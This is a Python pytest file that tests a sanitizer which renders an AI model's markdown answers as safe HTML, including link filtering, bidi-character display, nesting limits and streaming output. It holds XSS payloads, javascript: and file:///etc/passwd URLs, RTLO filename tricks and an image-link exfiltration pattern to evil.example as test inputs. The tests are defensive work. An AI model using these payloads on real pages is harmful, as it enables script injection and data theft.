"""The page shows what the model said, and nothing the model said can act there."""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from channels.html import ALLOWED, snapshot_html, to_html
from channels.partial import closed

PATIENT = settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])  # a shared machine may pause


class Page(HTMLParser):
    """What a browser would make of it: tags with their attributes, and the words."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words += data

    def names(self) -> list[str]:
        return [tag for tag, _ in self.tags]

    def links(self) -> list[str | None]:
        return [attrs["href"] for tag, attrs in self.tags if tag == "a"]


def assert_harmless(html: str) -> None:
    for tag, attrs in Page(html).tags:
        assert tag in ALLOWED and tag != "*"
        assert set(attrs) <= ALLOWED[tag] | ({"rel"} if tag == "a" else set())
        if tag == "a":
            # An address that no browser could follow (`http://a:b`) is taken away, the words stay.
            assert "href" not in attrs or str(attrs["href"]).lower().startswith(("http://", "https://", "mailto:"))
            assert (attrs["rel"], attrs["target"]) == ("noopener noreferrer", "_blank")


# Safe


@pytest.mark.rule("WO-13")
@pytest.mark.case("WP-14")
@pytest.mark.parametrize(
    "text",
    [
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "<b>x</b>",
        "a <!-- b --> c",
        "<a href='javascript:alert(1)'>x</a>",
        "<style>*{}</style>",
        "</div></div>",
        "<svg/onload=alert(1)>",
    ],
)
def test_raw_html_is_shown_as_the_text_it_is(text: str) -> None:
    page = Page(to_html(text))
    assert page.words.strip() == text
    assert page.names() == ["p"]


@pytest.mark.rule("WO-13")
@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "&#106;avascript:alert(1)",
        "java%0ascript:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "file:///etc/passwd",
        "//evil.example",
        "/settings",
        "ftp://e.com",
    ],
)
@pytest.mark.parametrize("form", ["[x]({})", "![x]({})", "<{}>"])
def test_a_link_leads_to_the_web_or_to_mail_or_is_text(url: str, form: str) -> None:
    assert Page(to_html(form.format(url))).links() == []


@pytest.mark.rule("WO-13")
def test_a_link_opens_beside_the_page_and_tells_it_nothing() -> None:
    html = to_html('[site](https://e.com/?a=1&b=2 "title") and <ada@example.org>')
    assert '<a href="https://e.com/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">site</a>' in html
    assert Page(html).links() == ["https://e.com/?a=1&b=2", "mailto:ada@example.org"]


@pytest.mark.rule("WO-13", "CH-137")
@pytest.mark.case("WP-15")
@pytest.mark.parametrize(
    ("text", "words", "links"),
    [
        ("![](https://evil.example/p.png?q=SECRET)", "https://evil.example/p.png?q=SECRET", ["https://evil.example/p.png?q=SECRET"]),
        ("![猫 *cat*](https://e.com/c.png)", "猫 cat", ["https://e.com/c.png"]),
        ("[![a](https://e.com/c.png)](https://e.com)", "a (https://e.com/c.png)", ["https://e.com"]),
    ],
)
def test_a_picture_is_a_link_that_nobody_fetches_unasked(text: str, words: str, links: list[str]) -> None:
    page = Page(to_html(text))
    assert (page.words.strip(), page.links()) == (words, links)
    assert "img" not in page.names()


@pytest.mark.case("WP-16")
@pytest.mark.parametrize("control", "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
@pytest.mark.parametrize("form", ["invoice{}fdp.exe", "`x{}fdp.exe`", "```\nx{}fdp.exe\n```", "![x{}fdp.exe](https://e.com)", "# {}x"])
def test_characters_that_reorder_a_line_are_shown_by_name(control: str, form: str) -> None:
    html = to_html(form.format(control))
    assert control not in html
    assert f'<span class="control">U+{ord(control):04X}</span>' in html


@pytest.mark.case("WP-16")
def test_no_such_character_hides_in_an_address() -> None:
    assert "\u202e" not in to_html("[x](https://e.com/\u202egpj.exe) <https://e.com/\u202ea> https://e.com/\u202eb")


def test_right_to_left_text_keeps_its_ordinary_marks_and_direction() -> None:
    assert to_html("مرحبا\u200f!") == '<p dir="auto">مرحبا\u200f!</p>\n'


DANGERS = ["<", ">", "<script>", "<img src=x onerror=", "javascript:", "](javascript:alert(1))", "style=", "http://", "https://e.com/", "&#x6a;"]
MARKS = ["[", "](", ")", "![", "```", "`", "**", "_", "> ", "- ", "1. ", "    ", "| a |\n|---|\n", "|", "\n", "\n\n", "\\", '"', "'", "&"]
ODDITIES = ["\u202e", "\u2066", "\x00", "你", "👨\u200d", "🇩"]
ANY = st.lists(st.sampled_from(DANGERS + MARKS + ODDITIES) | st.characters(exclude_categories=()), max_size=50).map("".join)


@pytest.mark.rule("WO-13")
@PATIENT
@given(ANY)
def test_whatever_a_model_writes_the_page_holds_only_harmless_tags(text: str) -> None:
    assert_harmless(to_html(text))


@pytest.mark.rule("WO-13", "CH-98")
@PATIENT
@given(ANY)
def test_a_half_written_answer_is_as_harmless(text: str) -> None:
    assert_harmless(snapshot_html(text))


@pytest.mark.rule("WO-13")
@pytest.mark.parametrize("text", ["> " * 500 + "你", "- " * 500 + "你", "[" * 3000 + "你", "*a" * 3000 + "你", "![" * 1000 + "你", "(" * 5000 + "你"])
def test_absurd_nesting_is_survived_and_loses_no_word(text: str) -> None:
    assert "你" in Page(to_html(text)).words
    assert "你" in Page(snapshot_html(text)).words


# Readable


@pytest.mark.rule("WO-13")
def test_code_carries_its_language_and_a_place_for_the_copy_button() -> None:
    assert to_html("```python title\nx < 1\n```") == (
        '<div class="code" data-language="python"><pre><code class="language-python">x &lt; 1\n</code></pre></div>\n'
    )
    assert to_html("    x") == '<div class="code"><pre><code>x\n</code></pre></div>\n'
    assert Page(to_html("```c++\n```")).tags[-1] == ("code", {"class": "language-c++"})
    assert Page(to_html('```"><img\n```')).names() == ["div", "pre", "code"]


def test_tables_lists_quotes_and_emphasis_are_what_they_are() -> None:
    assert Page(to_html("| a | b |\n|--:|---|\n| 1 | 2 |")).tags == [
        ("table", {}), ("thead", {}), ("tr", {}), ("th", {"dir": "auto", "class": "right"}), ("th", {"dir": "auto"}),
        ("tbody", {}), ("tr", {}), ("td", {"dir": "auto", "class": "right"}), ("td", {"dir": "auto"}),
    ]  # fmt: skip
    assert '<ol start="3" dir="auto">' in to_html("3. c\n4. d")
    assert Page(to_html("> **b** *i* ~~s~~ `c`")).names() == ["blockquote", "p", "strong", "em", "s", "code"]
    assert to_html("eins\nzwei") == '<p dir="auto">eins<br>\nzwei</p>\n'


@pytest.mark.parametrize("text", ["**重要：**请看", "です**「重要」**です", "これは**太字。**次"])
def test_chinese_and_japanese_emphasis_needs_no_blanks(text: str) -> None:
    page = Page(to_html(text))
    assert "strong" in page.names()
    assert "*" not in page.words


@pytest.mark.parametrize(
    ("text", "links"),
    [
        ("see https://e.com/a_b.", ["https://e.com/a_b"]),
        ("見て（https://e.com/x）ください", ["https://e.com/x"]),
        ("请看https://e.com/x。谢谢", ["https://e.com/x"]),
        ("(https://e.com/w_(x))", ["https://e.com/w_(x)"]),
        ("`https://e.com`", []),
        ("[https://e.com](https://e.com)", ["https://e.com"]),
        ("http://", []),
    ],
)
def test_a_bare_address_can_be_clicked(text: str, links: list[str]) -> None:
    page = Page(to_html(text))
    assert page.links() == links
    assert page.words.strip() == text if "`" not in text and "[" not in text else True


@pytest.mark.parametrize("end", [")", "))", ".)", ".", "}", "))("])
def test_what_follows_an_address_costs_by_its_length_alone(end: str) -> None:
    """A model that falls into a loop repeats one sign, and the page is made on the event loop. What goes by the square needs minutes for so much."""
    began = time.process_time()
    to_html("https://e.com/a" + end * (100_000 // len(end)))
    assert time.process_time() - began < 10


# While it streams


@pytest.mark.rule("CH-98")
@pytest.mark.parametrize(
    ("partial", "shown"),
    [
        ("**bold", "**bold**"),
        ("**太字と*斜体", "**太字と*斜体***"),
        ("**bold*", "**bold**"),
        ("foo **", "foo"),
        ("a `co", "a `co`"),
        ("a ``c`d", "a ``c`d``"),
        ("~~x", "~~x~~"),
        ("a_b_c _d", "a_b_c _d_"),
        ("2 * 3", "2 * 3"),
        ("done **x** and `y`", "done **x** and `y`"),
        ("see [the docs](https://e.co", "see the docs"),
        ("see [the do", "see the do"),
        ("x\n```py\ny\n``", "x\n```py\ny"),
        ("- one\n- **two", "- one\n- **two**"),
        ("**one\n\ntwo", "**one\n\ntwo"),
        ("```py\nx = '**", "```py\nx = '**"),
        ("\\**x", "\\**x*"),
        ("ok 👨\u200d", "ok"),
        ("ok 🇩", "ok"),
        ("", ""),
    ],
)
def test_what_is_open_is_closed_for_display(partial: str, shown: str) -> None:
    assert closed(partial) == shown


@pytest.mark.rule("CH-98")
def test_at_every_moment_of_a_stream_no_mark_stands_bare() -> None:
    text = "これは**とても『重要』な**話です。see *this* and `code` or [docs](https://e.com).\n\n```python\nprint('家族')\n```\n\n- **終わり** 🇩🇪"
    for end in range(len(text) + 1):
        words = Page(snapshot_html(text[:end])).words
        assert not set(words) & set("*`[]"), text[:end]
    assert snapshot_html(text) == to_html(text)
